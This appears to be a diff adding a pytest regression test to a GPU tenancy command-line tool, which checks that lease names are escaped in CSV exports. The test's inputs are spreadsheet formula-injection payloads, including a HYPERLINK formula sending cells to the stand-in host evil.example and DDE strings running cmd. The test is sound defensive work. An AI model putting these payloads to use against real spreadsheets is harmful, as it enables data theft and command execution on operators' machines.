@@ -5,6 +5,8 @@ notice."""
 from __future__ import annotations
 
 import argparse
+import csv
+import io
 import json
 from types import SimpleNamespace
 
@@ -13,6 +15,7 @@ import pytest
 pytest.importorskip("osc_lib", reason="the `cli` extra is not installed")
 from osc_lib import exceptions  # noqa: E402
 
+from gpu_tenancy.csv_cells import FORMULA_STARTS  # noqa: E402
 from gpu_tenancy.osc.client import GpuClient  # noqa: E402
 from gpu_tenancy.osc.lease import CreateLease, ExtendLease, ListLease, ShowLease, show_lease  # noqa: E402
 from gpu_tenancy.osc.lease_shrink import ShrinkLease  # noqa: E402
@@ -168,6 +171,19 @@ def test_a_tenants_words_reach_an_operators_terminal_inert(fmt):
     exact = json.loads(output(ShowLease, Http([HOSTILE]), HOSTILE["id"], "-f", "json"))
     assert exact["name"] == HOSTILE_NAME and exact["servers"][0]["addresses"][0]["network"] == HOSTILE_NET
     assert json.loads(output(ListLease, Http([HOSTILE]), "-f", "json"))[0]["Name"] == HOSTILE_NAME
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A1,"report")', "+cmd|' /C calc'!A0",
+                                  "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"])
+def test_lease_list_as_csv_gives_a_spreadsheet_no_formula(name):
+    """`lease list --all-projects -f csv` is an admin's spreadsheet: a lease named `=HYPERLINK(...)`
+    was a live formula in it (sending the sheet's cells away, or running a command through DDE).
+    Such a cell is written as text, with a leading apostrophe, as the API's CSV exports write it."""
+    printed = output(ListLease, Http([{**HOSTILE, "name": name}]), "--all-projects", "-f", "csv")
+    header, *rows = list(csv.reader(io.StringIO(printed)))
+    assert [row[header.index("Name")] for row in rows] == ["'" + name]
+    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
+    assert json.loads(output(ListLease, Http([{**HOSTILE, "name": name}]), "-f", "json"))[0]["Name"] == name
 
 
 def test_shell_output_runs_nothing_a_tenant_wrote(tmp_path):
